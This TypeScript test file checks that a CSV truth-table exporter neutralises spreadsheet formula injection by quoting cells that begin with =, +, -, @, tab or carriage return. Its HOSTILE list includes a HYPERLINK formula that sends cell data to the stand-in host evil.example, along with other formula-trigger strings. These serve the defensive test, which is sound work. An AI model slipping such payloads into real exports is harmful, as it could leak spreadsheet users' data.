// Spreadsheet formula injection in the truth-table CSV (issue 11). OWASP, "CSV Injection"
// (owasp.org/www-community/attacks/CSV_Injection): a cell that begins with = + - @ tab (0x09) or
// carriage return (0x0D) is read as a formula by spreadsheet programs; prefix such a cell with a single
// quote and quote the field, so the program shows it as text and a reader still reads the words.
import { describe, expect, it } from "vitest";
import { compileDesign, csvChunks } from "../../../app/engine";
import { inhibit, is, makeDesign } from "./builders";

/** Minimal RFC 4180 parser (quoted fields, doubled quotes), written here so the check does not reuse the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
    } else field += ch;
  }
  return rows;
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"];

function designWith(states: string[], conditionId = "lever") {
  return compileDesign(
    makeDesign({
      conditions: [
        [conditionId, states],
        ["thr", ["released", "applied"]],
      ],
      contacts: [["C1", conditionId, [states[0]!]]],
      inputs: [
        ["PWR", "power"],
        ["EN", "enable"],
      ],
      wires: [
        ["BAT.+", "C1.1"],
        ["C1.2", "PWR.in"],
        ["C1.2", "EN.in"],
      ],
      throttle: { condition: "thr", released: ["released"], applied: ["applied"] },
      rules: [inhibit("r1", is(conditionId, states[1]!))],
    }),
  );
}

describe("CSV cells that a spreadsheet would run as a formula (OWASP CSV Injection)", () => {
  it("are written with a leading single quote, as text, the words unchanged after it", () => {
    const c = designWith(HOSTILE.slice(0, 4).concat(["plain"]));
    const rows = parseCsv([...csvChunks(c)].join(""));
    const column = rows[0]!.indexOf("lever");
    const cells = new Set(rows.slice(1).map((r) => r[column]!));
    for (const s of HOSTILE.slice(0, 4)) expect(cells).toContain(`'${s}`);
    expect(cells).toContain("plain");
    // No cell anywhere in the file starts a formula.
    for (const r of rows) for (const cell of r) expect(cell === "-" || !/^[=+\-@\t\r]/.test(cell)).toBe(true);
  });

  it("covers states that begin with a tab or a carriage return, and the header", () => {
    const c = designWith(["\tcmd", "\r=1+1"], "-lever");
    const rows = parseCsv([...csvChunks(c)].join(""));
    expect(rows[0]![1]).toBe("'-lever");
    expect(new Set(rows.slice(1).map((r) => r[1]))).toEqual(new Set(["'\tcmd", "'\r=1+1"]));
  });

  it("leaves the usual cells as they were: the rule column's lone '-', states, bits", () => {
    const c = designWith(["open", "closed"]);
    const text = [...csvChunks(c)].join("");
    const lines = text.split("\n");
    expect(lines[0]).toBe("row,lever,thr,input:PWR,input:EN,powered,enabled,direction,braking,throttle,drive,rule:r1");
    expect(lines[1]).toBe("0,open,released,1,1,1,1,forward,0,released,0,-");
    expect(text).not.toContain("'");
  });
});
